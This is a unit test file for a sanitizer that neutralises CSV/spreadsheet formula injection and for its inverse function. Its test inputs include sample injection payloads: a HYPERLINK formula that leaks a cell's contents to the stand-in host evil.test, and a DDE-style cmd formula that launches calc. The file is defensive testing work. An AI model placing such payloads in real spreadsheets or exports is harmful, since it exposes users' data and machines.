import { describe, expect, it } from 'vitest';
import { inertCellText, restoreCellText } from './spreadsheet-text.js';

describe('inertCellText (OWASP CSV injection)', () => {
  it('prefixes with an apostrophe text that starts with = + - @, a tab or a carriage return', () => {
    for (const text of ['=HYPERLINK("http://evil.test/?"&A1,"x")', '=1+2', "+1+cmd|' /C calc'!A0", '-2+3', '- call after 5', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=', '+', '-', '@']) {
      expect(inertCellText(text), JSON.stringify(text)).toBe(`'${text}`);
    }
  });

  it('leaves other text, and a plain signed number such as an E.164 phone, as it is', () => {
    for (const text of ['Mona Adel', ' =not first', 'a=b', "'already quoted", '', '+201001234567', '-12.5', '+.5', 'عطر عود', '١٢٣']) {
      expect(inertCellText(text), JSON.stringify(text)).toBe(text);
    }
    expect(inertCellText('+20 100 123')).toBe("'+20 100 123");
    expect(inertCellText('-1e5')).toBe("'-1e5");
  });

  it('is undone by restoreCellText, which leaves every other apostrophe alone', () => {
    for (const text of ['=1+2', '+1+cmd|x', '-2+3', '@SUM(1)', '\t=x', 'plain', '+201001234567', "'quoted", "'", "''=x"]) {
      expect(restoreCellText(inertCellText(text)), JSON.stringify(text)).toBe(text);
    }
    expect(restoreCellText("'Abdallah")).toBe("'Abdallah");
  });
});
